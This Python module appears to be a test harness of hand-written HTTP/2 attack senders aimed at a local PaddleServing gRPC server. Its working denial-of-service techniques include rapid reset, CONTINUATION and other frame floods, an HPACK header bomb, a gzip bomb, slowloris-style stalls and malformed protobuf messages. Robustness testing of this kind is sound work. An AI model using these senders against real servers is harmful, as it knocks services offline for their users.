"""Senders of what no client of gRPC sends: HTTP/2 written by hand, bounded in count and time.

Each function is named for what it sends, takes the port of a server on 127.0.0.1, and returns when
it is done or the server has closed the connection, whichever comes first. A sender that has to
stay connected to do harm is a context: what it holds is closed at its end.
"""

from __future__ import annotations

import contextlib
import gzip
import os
import socket
import struct
import time
from collections.abc import Iterable, Iterator, Sequence
from typing import Optional

METHOD = "/baidu.paddle_serving.pipeline_serving.PipelineService/inference"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
INITIAL_WINDOW = 4  # the setting
# What may wait in this process for the server to read it.
_SEND_BUFFER = 1 << 16
_PATIENCE_S = 10.0


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """One frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field, neither indexed nor compressed (RFC 7541, 6.2.2)."""
    return b"\x00" + _text(name) + _text(value)


def _text(value: str) -> bytes:
    data = value.encode()
    return _integer(len(data), 7) + data


def _integer(value: int, bits: int) -> bytes:
    """RFC 7541, 5.1; the bits above are 0."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    out, value = [most], value - most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


def call_headers(method: str = METHOD, more: Sequence[tuple[str, str]] = ()) -> bytes:
    """The header block of a call."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method),
        (":authority", "x"),
        ("te", "trailers"),
        ("content-type", "application/grpc"),
        *more,
    ]
    return b"".join(literal(name, value) for name, value in fields)


def begin(stream: int, block: Optional[bytes] = None, flags: int = END_HEADERS) -> bytes:
    """The HEADERS frame of a call whose message does not come with it."""
    return frame(HEADERS, flags, stream, call_headers() if block is None else block)


def message(data: bytes, compressed: bool = False) -> bytes:
    """A gRPC message with its prefix of five bytes."""
    return struct.pack(">BI", compressed, len(data)) + data


def settings(*pairs: tuple[int, int]) -> bytes:
    """A SETTINGS frame of (identifier, value)."""
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


class Connection:
    """One connection that has sent its preface, with `pairs` of settings.

    answer: what has been read of the server's frames, without what `drain` threw away.
    ended: the calls that the server has reset.
    """

    def __init__(self, port: int, *pairs: tuple[int, int], preface: bool = True) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=_PATIENCE_S)
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, _SEND_BUFFER)
        self.answer = b""
        self.ended: set[int] = set()
        self._parsed = 0
        self._first_window = 65_535
        self._windows = {0: 65_535}
        if preface:
            self.send(PREFACE + settings(*pairs))

    def send(self, data: bytes) -> bool:
        """Whether the server still takes what is sent."""
        try:
            self.socket.sendall(data)
        except OSError:  # reset, closed, or not read for `_PATIENCE_S`
            return False
        return True

    def send_message(self, stream: int, data: bytes, last: bool = True) -> bool:
        """DATA frames, no more than the server has given leave for; whether all were sent."""
        size = 16_384
        for start in range(0, len(data), size):
            part = data[start : start + size]
            while self._room(stream) < len(part):
                if stream in self.ended or not self.receive():
                    return False
            for window in (0, stream):
                self._windows[window] = self._room(window) - len(part)
            end = last and start + size >= len(data)
            if not self.send(frame(DATA, END_STREAM if end else 0, stream, part)):
                return False
        return True

    def _room(self, stream: int) -> int:
        return self._windows.setdefault(stream, self._first_window)

    def receive(self) -> bool:
        """Wait for more frames; False at the end of the connection or of patience."""
        try:
            part = self.socket.recv(1 << 16)
        except OSError:
            return False
        self.answer += part
        while len(self.answer) >= self._parsed + 9:
            head = self.answer[self._parsed : self._parsed + 9]
            size = int.from_bytes(head[:3], "big")
            if len(self.answer) < self._parsed + 9 + size:
                break
            payload = self.answer[self._parsed + 9 : self._parsed + 9 + size]
            self._parsed += 9 + size
            self._take(head[3], head[4], int.from_bytes(head[5:], "big"), payload)
        return bool(part)

    def _take(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == WINDOW_UPDATE:
            self._windows[stream] = self._room(stream) + int.from_bytes(payload, "big")
        elif kind == RST_STREAM:
            self.ended.add(stream)
        elif kind == SETTINGS and not flags & ACK:
            for start in range(0, len(payload), 6):
                name, value = struct.unpack_from(">HI", payload, start)
                if name == INITIAL_WINDOW:
                    grown = value - self._first_window
                    self._first_window = value
                    self._windows.update({s: w + grown for s, w in self._windows.items() if s})
            self.send(frame(SETTINGS, ACK, 0))

    def drain(self) -> bool:
        """Throw away what has arrived; whether the server still holds the connection."""
        self.socket.settimeout(0)
        try:
            while data := self.socket.recv(1 << 20):
                pass
        except (BlockingIOError, InterruptedError):
            return True
        except OSError:
            return False
        finally:
            self.socket.settimeout(_PATIENCE_S)
        return bool(data)

    def flood(self, parts: Iterable[bytes], seconds: float, reads: bool = False) -> int:
        """Send one part after the other for so long; how many were sent.

        reads: whether the server's answers are taken off the socket.
        """
        end, sent = time.monotonic() + seconds, 0
        self.socket.settimeout(min(_PATIENCE_S, seconds))
        for part in parts:
            if time.monotonic() > end or not self.send(part) or (reads and not self.drain()):
                break
            sent += 1
        return sent

    def close(self) -> None:
        """Hang up."""
        self.socket.close()


@contextlib.contextmanager
def _held(connections: Sequence[Connection]) -> Iterator[list[Connection]]:
    try:
        yield list(connections)
    finally:
        for connection in connections:
            connection.close()


@contextlib.contextmanager
def calls_without_message(
    port: int, calls: int = 512, each: int = 64
) -> Iterator[list[Connection]]:
    """Calls whose message never comes, `each` on a connection."""
    connections = [Connection(port) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            connection.send(b"".join(begin(2 * number + 1) for number in range(each)))
        yield connections


@contextlib.contextmanager
def half_messages(port: int, calls: int = 256, each: int = 64) -> Iterator[list[Connection]]:
    """Calls that tell of a message of 60 MB and send its first bytes."""
    start = struct.pack(">BI", 0, 60_000_000) + bytes(64)
    connections = [Connection(port) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            for number in range(each):
                stream = 2 * number + 1
                connection.send(begin(stream) + frame(DATA, 0, stream, start))
        yield connections


@contextlib.contextmanager
def unfinished_messages(
    port: int, calls: int = 32, each: int = 8, megabytes: int = 60
) -> Iterator[list[Connection]]:
    """Calls that send all of a large message but its last byte."""
    size = megabytes << 20
    data = struct.pack(">BI", 0, size + 1) + bytes(size)
    connections = [Connection(port) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            for number in range(each):
                stream = 2 * number + 1
                if not connection.send(begin(stream)):
                    break
                if not connection.send_message(stream, data, last=False):
                    break
        yield connections


def drip(connections: Iterable[Connection], calls: int = 64) -> None:
    """One byte more for each call of `half_messages`."""
    for connection in connections:
        connection.send(b"".join(frame(DATA, 0, 2 * n + 1, b"\0") for n in range(calls)))


@contextlib.contextmanager
def silent_connections(port: int, count: int = 2000, preface: bool = False) -> Iterator[int]:
    """TCP connections that send nothing, or nothing but the preface; how many are open."""
    with contextlib.ExitStack() as stack:
        opened = 0
        for _ in range(count):
            try:
                connection = Connection(port, preface=preface)
            except OSError:
                continue
            stack.callback(connection.close)
            opened += 1
        yield opened


@contextlib.contextmanager
def answers_not_read(
    port: int, request: bytes, calls: int = 256, each: int = 64
) -> Iterator[list[Connection]]:
    """Whole calls on connections whose window takes no byte of an answer.

    request: the serialized message.
    """
    connections = [Connection(port, (INITIAL_WINDOW, 0)) for _ in range(-(-calls // each))]
    with _held(connections):
        for connection in connections:
            for number in range(each):
                stream = 2 * number + 1
                connection.send(begin(stream) + _data(stream, message(request)))
        yield connections


def _data(stream: int, data: bytes) -> bytes:
    size = 16_384
    parts = [data[start : start + size] for start in range(0, len(data), size)] or [b""]
    last = len(parts) - 1
    return b"".join(
        frame(DATA, END_STREAM if place == last else 0, stream, part)
        for place, part in enumerate(parts)
    )


def rapid_reset(port: int, seconds: float = 3.0) -> int:
    """Calls that are cancelled in the same breath (CVE-2023-44487); how many hundreds."""

    def parts() -> Iterator[bytes]:
        stream = 1
        while stream < 2**31 - 400:
            streams = range(stream, stream + 200, 2)
            yield b"".join(
                begin(one) + frame(RST_STREAM, 0, one, struct.pack(">I", 8)) for one in streams
            )
            stream += 200

    return _once(Connection(port), parts(), seconds, reads=True)


def streams_flood(port: int, seconds: float = 3.0) -> int:
    """New calls without end and without regard for the server's limit; how many hundreds."""

    def parts() -> Iterator[bytes]:
        for stream in range(1, 2**31 - 400, 200):
            yield b"".join(begin(one) for one in range(stream, stream + 200, 2))

    return _once(Connection(port), parts(), seconds, reads=True)


def ping_flood(port: int, seconds: float = 3.0) -> int:
    """PINGs whose answers are never read; how many thousands."""
    part = frame(PING, 0, 0, bytes(8)) * 1000
    return _once(Connection(port), _endless(part), seconds)


def settings_flood(port: int, seconds: float = 3.0) -> int:
    """SETTINGS whose acknowledgements are never read; how many thousands."""
    part = settings((INITIAL_WINDOW, 65_535)) * 1000
    return _once(Connection(port), _endless(part), seconds)


def window_update_flood(port: int, seconds: float = 3.0) -> int:
    """WINDOW_UPDATEs of one byte on a call; how many thousands."""
    connection = Connection(port)
    connection.send(begin(1))
    part = frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)) * 1000
    return _once(connection, _endless(part), seconds, reads=True)


def empty_data_flood(port: int, seconds: float = 3.0) -> int:
    """DATA frames without a byte on a call (CVE-2019-9518); how many thousands."""
    connection = Connection(port)
    connection.send(begin(1))
    return _once(connection, _endless(frame(DATA, 0, 1) * 1000), seconds, reads=True)


def continuation_flood(port: int, seconds: float = 3.0) -> int:
    """A header block that never ends (CVE-2024-27983); how many frames of 16 KB."""
    connection = Connection(port)
    connection.send(begin(1, flags=0))
    block = literal("x-" + "a" * 6, "b" * 16_000)
    return _once(connection, _endless(frame(CONTINUATION, 0, 1, block)), seconds, reads=True)


def header_bomb(port: int, seconds: float = 3.0) -> int:
    """Header blocks that name one large entry of the table over and over; how many calls."""
    entry = b"\x40" + _text("x-bomb") + _text("b" * 3900)
    first = call_headers() + entry

    def parts() -> Iterator[bytes]:
        yield begin(1, first)
        for stream in range(3, 2**31 - 2, 2):
            yield begin(stream, call_headers() + b"\xbe" * 16_000)

    return _once(Connection(port), parts(), seconds, reads=True)


def reset_after_request(port: int, request: bytes, seconds: float = 3.0) -> int:
    """Whole calls that are cancelled before their answer; how many."""

    def parts() -> Iterator[bytes]:
        for stream in range(1, 2**31 - 2, 2):
            yield (
                begin(stream)
                + _data(stream, message(request))
                + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            )

    return _once(Connection(port), parts(), seconds, reads=True)


def churn(port: int, seconds: float = 3.0) -> int:
    """Connections that are closed at once; how many."""
    end, made = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            Connection(port).close()
            made += 1
    return made


def garbage(port: int, seconds: float = 3.0) -> int:
    """Connections that send what is no HTTP/2, with and without the preface; how many."""
    end, made = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        with contextlib.suppress(OSError):
            connection = Connection(port, preface=bool(made % 2))
            connection.send(os.urandom(4096))
            connection.close()
            made += 1
    return made


def gzip_bomb(port: int, megabytes: int = 1500, seconds: float = _PATIENCE_S) -> bytes:
    """A small message that unpacks to a large one; what the server answered, as it came."""
    packed = gzip.compress(bytes(megabytes << 20), 1)
    return call(port, message(packed, compressed=True), seconds, [("grpc-encoding", "gzip")])


def call(
    port: int, data: bytes, seconds: float = _PATIENCE_S, more: Sequence[tuple[str, str]] = ()
) -> bytes:
    """A whole call with these bytes as its DATA; what the server answered, as it came."""
    connection = Connection(port)
    try:
        connection.socket.settimeout(seconds)
        connection.send(begin(1, call_headers(more=more)))
        connection.send_message(1, data)
        while b"grpc-status" not in connection.answer and connection.receive():
            pass
    finally:
        connection.close()
    return connection.answer


def _endless(part: bytes) -> Iterator[bytes]:
    while True:
        yield part


def _once(
    connection: Connection, parts: Iterable[bytes], seconds: float, reads: bool = False
) -> int:
    try:
        return connection.flood(parts, seconds, reads)
    finally:
        connection.close()


# Bytes that are no `Request`, by what is wrong with them.
MALFORMED_MESSAGES = {
    "noise": b"\xff\xfe\xfd\xfc" * 8,
    "truncated": b"\x0a\x05image\x12\xff\xff\x03abc",
    "no utf-8": b"\x0a\x05image\x12\x02\xc3\x28",
    "endless number": b"\x30" + b"\xff" * 64,
    "field 0": b"\x02\x00",
    "groups in groups": b"\x4b" * 100_000,
    "length beyond 2**63": b"\x0a\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01",
}
